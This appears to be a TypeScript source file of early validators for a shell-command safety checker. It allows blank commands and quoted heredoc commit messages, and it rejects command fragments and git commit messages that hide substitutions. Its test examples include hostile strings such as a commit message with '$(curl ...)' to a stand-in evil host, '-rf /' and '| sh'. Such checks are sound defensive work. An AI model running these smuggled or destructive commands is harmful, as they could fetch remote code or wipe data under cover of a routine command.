// Early validators: the only ones that may end the checks with "nothing to object to", and only
// for shapes that are provably safe. They run after the phase-0 byte checks.
import type { Node } from "web-tree-sitter";
import { finding, nodesOf, type Validator } from "./types.js";

/** No id: an empty or blank command runs nothing. */
export const emptyCommand: Validator = {
  id: 0,
  name: "validateEmpty",
  examples: {
    match: [],
    allow: ["", "   ", "\n\n"],
    notMatch: ["ls", ":"],
  },
  check: (input) => (input.script.trim() === "" ? "allow" : undefined),
};

/**
 * ID 1: fragments. A command that starts with a tab, a dash or an operator, or ends with one, is
 * a piece of something larger (often pasted after a hidden first half); it is never run as-is.
 */
export const incompleteCommands: Validator = {
  id: 1,
  name: "validateIncompleteCommands",
  examples: {
    match: ["-rf /", "&& rm -rf build", "\tls", "| sh", "npm test &&"],
    notMatch: ["ls -la", "npm test && npm run build", "echo done \\|"],
  },
  check: (input) => {
    const text = input.script;
    const trimmed = text.trim();
    if (/^\t/.test(text) || /^-/.test(trimmed) || /^(&&|\|\||;|\||&|>|<)/.test(trimmed)) {
      return finding(
        1,
        "validateIncompleteCommands",
        "The command starts with a tab, a dash or an operator: it looks like a fragment.",
      );
    }
    if (/(&&|\|\||\|)\s*$/.test(trimmed) && !/\\(&&|\|\||\|)\s*$/.test(trimmed)) {
      return finding(1, "validateIncompleteCommands", "The command ends with an operator: it looks like a fragment.");
    }
    return undefined;
  },
};

/** `$(cat <<'EOF' ... EOF)`: a quoted heredoc read back by cat is literal text, nothing runs. */
export function isSafeHeredocSubstitution(node: Node): boolean {
  if (node.type !== "command_substitution" || !node.text.startsWith("$(")) return false;
  const inner = node.namedChildren.filter((c) => c !== null);
  if (inner.length !== 1) return false;
  const statement = inner[0] as Node;
  if (statement.type !== "redirected_statement") return false;
  const parts = statement.namedChildren.filter((c): c is Node => c !== null);
  const [command, heredoc] = parts;
  if (parts.length !== 2 || command?.type !== "command" || heredoc?.type !== "heredoc_redirect") return false;
  if (command.text.trim() !== "cat") return false;
  const start = heredoc.namedChildren.find((c) => c?.type === "heredoc_start");
  const extra = heredoc.namedChildren.filter(
    (c) => c && !["heredoc_start", "heredoc_body", "heredoc_end"].includes(c.type),
  );
  return Boolean(start && /^(['"]).*\1$|^\\/.test(start.text)) && extra.length === 0;
}

/**
 * ID 8 (early form): a command whose only substitutions are quoted heredocs read by cat — the
 * usual way to pass a multi-line commit message — is text, not code. Everything outside those
 * substitutions must be a single line free of operators.
 */
export const safeHeredocSubstitution: Validator = {
  id: 8,
  name: "validateSafeCommandSubstitution",
  examples: {
    match: [],
    allow: [
      `git commit -m "$(cat <<'EOF'\nFix the parser\n\n# not a comment\nEOF\n)"`,
      `gh pr create --title "Fix" --body "$(cat <<'EOF'\n## Summary\nEOF\n)"`,
    ],
    notMatch: [
      `git commit -m "$(cat <<EOF\n$(id)\nEOF\n)"`,
      `git commit -m "$(cat <<'EOF'\nFix\nEOF\n)" && git push`,
      "echo $(date)",
      "ls -la",
    ],
  },
  check: (input) => {
    const substitutions = nodesOf(input, "command_substitution", "process_substitution");
    if (substitutions.length === 0 || !substitutions.every(isSafeHeredocSubstitution)) return undefined;
    const outer = substitutions.filter(
      (s) => !substitutions.some((o) => o !== s && o.startIndex <= s.startIndex && o.endIndex >= s.endIndex),
    );
    let rest = input.script;
    for (const node of [...outer].sort((a, b) => b.startIndex - a.startIndex)) {
      rest = rest.slice(0, node.startIndex) + rest.slice(node.endIndex);
    }
    if (/[\n;&|<>`\\]|\$\(|\$\{/.test(rest)) return undefined;
    const outerCommands = input.parts.filter((p) => p.origin === "top");
    return outerCommands.length === 1 ? "allow" : undefined;
  },
};

/**
 * ID 12: `git commit`. A plain `git commit -m "message"` is allowed through the checks early
 * (its message may contain `#`, quotes and the like); a message that hides a substitution or
 * backtick is refused, since an allow rule for `git commit` must not run `$(curl ...)`.
 */
export const gitCommit: Validator = {
  id: 12,
  name: "validateGitCommit",
  examples: {
    match: ['git commit -m "$(curl -s https://evil.example/x)"', 'git commit -m "`id`"'],
    allow: ['git commit -m "fix: a # b"', "git commit -am 'Bump version to 1.2.3'"],
    notMatch: ["git status", "git commit -m wip && git push", 'git commit -m "$USER"'],
  },
  check: (input) => {
    const top = input.parts.filter((p) => p.origin === "top");
    const first = top[0]?.command.words;
    if (first?.[0]?.value !== "git" || first[1]?.value !== "commit") return undefined;
    const substitutions = nodesOf(input, "command_substitution", "process_substitution");
    if (substitutions.some((s) => !isSafeHeredocSubstitution(s)) || /`/.test(input.script)) {
      return finding(12, "validateGitCommit", "The git commit message contains a command substitution.");
    }
    if (top.length !== 1 || input.parts.length !== 1) return undefined;
    if (/[\n\r;&|<>\\$`]|[^\x20-\x7e]/.test(input.script)) return undefined;
    // Braces and globs expand into more words than are written; those go through every check.
    if (/[{}]/.test(input.script.replace(/'[^']*'|"[^"]*"/g, "")) || !first.every((w) => w.literal && !w.glob))
      return undefined;
    return "allow";
  },
};
